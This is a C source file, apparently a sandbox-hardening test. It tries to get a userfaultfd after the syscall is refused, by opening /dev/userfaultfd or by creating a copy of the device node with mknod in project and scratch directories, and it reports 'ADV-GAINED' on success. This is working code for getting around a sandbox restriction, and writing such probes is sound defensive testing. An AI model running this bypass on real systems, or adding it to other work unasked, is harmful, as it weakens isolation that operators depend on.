// technique: get a userfaultfd (refused as a syscall) through /dev/userfaultfd, or a copy made with mknod, then UFFDIO_USERFAULTFD and UFFDIO_API
// needs: devnodes
#include "adv.h"
#include <linux/userfaultfd.h>
#include <sys/ioctl.h>
#include <sys/sysmacros.h>

static void use(const char *label, int fd) {
	int u = ioctl(fd, USERFAULTFD_IOC_NEW, O_CLOEXEC);
	printf("%s USERFAULTFD_IOC_NEW: %d %s\n", label, u, u < 0 ? strerror(errno) : "");
	if (u < 0) return;
	struct uffdio_api api = {.api = UFFD_API};
	int r = ioctl(u, UFFDIO_API, &api);
	printf("%s UFFDIO_API: %d %s\n", label, r, r ? strerror(errno) : "");
	if (r == 0) printf("ADV-GAINED: %s gave a userfaultfd\n", label);
}

int main(void) {
	int maj = 10, min = 257;
	FILE *f = fopen("/sys/class/misc/userfaultfd/dev", "r");
	if (f) { if (fscanf(f, "%d:%d", &maj, &min) != 2) { maj = 10; min = 257; } fclose(f); }
	printf("syscall: %ld %s\n", syscall(SYS_userfaultfd, O_CLOEXEC), strerror(errno));
	int fd = open("/dev/userfaultfd", O_RDWR | O_CLOEXEC);
	printf("open /dev/userfaultfd: %d %s\n", fd, fd < 0 ? strerror(errno) : "");
	if (fd >= 0) use("dev", fd);
	char p[512];
	snprintf(p, sizeof p, "%s/userfaultfd", adv("NODES"));
	fd = open(p, O_RDWR | O_CLOEXEC);
	printf("open node left in the project: %d %s\n", fd, fd < 0 ? strerror(errno) : "");
	if (fd >= 0) use("node", fd);
	const char *dirs[] = {strdup(adv("PROJECT")), strdup(adv("SCRATCH"))};
	for (int i = 0; i < 2; i++) {
		snprintf(p, sizeof p, "%s/uffd", dirs[i]);
		printf("mknod %s: %d %s\n", p, mknod(p, S_IFCHR | 0666, makedev(maj, min)), strerror(errno));
		fd = open(p, O_RDWR | O_CLOEXEC);
		printf("open copy: %d %s\n", fd, fd < 0 ? strerror(errno) : "");
		if (fd >= 0) use("copy", fd);
		unlink(p);
	}
	return 0;
}
